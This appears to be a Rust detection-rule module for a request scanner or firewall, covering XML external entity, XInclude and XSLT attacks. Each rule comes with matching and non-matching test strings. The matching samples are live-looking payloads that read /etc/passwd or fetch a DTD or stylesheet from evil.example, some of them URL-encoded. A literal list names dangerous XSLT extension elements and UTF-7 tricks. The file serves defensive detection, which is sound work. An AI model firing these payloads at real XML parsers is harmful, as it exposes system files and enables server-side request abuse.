//! Entities, inclusions and stylesheets of XML.

super::rules! { TABLE ["xxe", "CWE-611", "crs-944"];
    ENTITY "xxe-001" "entity declaration" Critical 1:
        "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>", "%253C!ENTITY%2520%2525%2520a%2520'b'%253E",
        not "<!DOCTYPE html>";
    EXTERNAL "xxe-002" "external document type" Critical 1:
        "<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\">", "%253C!DOCTYPE%2520x%2520SYSTEM%2520'x'%253E",
        not "the doctype system is old";
    INCLUDE "xxe-003" "XInclude" Critical 1:
        "<xi:include href=\"file:///etc/passwd\"/>", "%253Cxi:include%2520href%253D'x'/%253E",
        not "an xi: include list";
    TRANSFORM "xxe-004" "stylesheet that reaches out" Critical 1:
        "<xsl:copy-of select=\"document('file:///etc/passwd')\"/>", "%253Cxsl:import%2520href%253D'http://evil.example/x.xsl'/%253E",
        not "<xsl:value-of select=\"price\"/>";
}

super::literal::literals! {
    ENTITY, Any, Anywhere: ["+adwaiq-", "encoding=\"utf-7\"", "encoding='utf-7'"];
    TRANSFORM, Any, Anywhere: ["<exslt:document", "<saxon:output", "<redirect:write", "<xalan:script", "<lxslt:script", "http://php.net/xsl", "urn:schemas-microsoft-com:xslt", "xml.apache.org/xalan/redirect"];
}
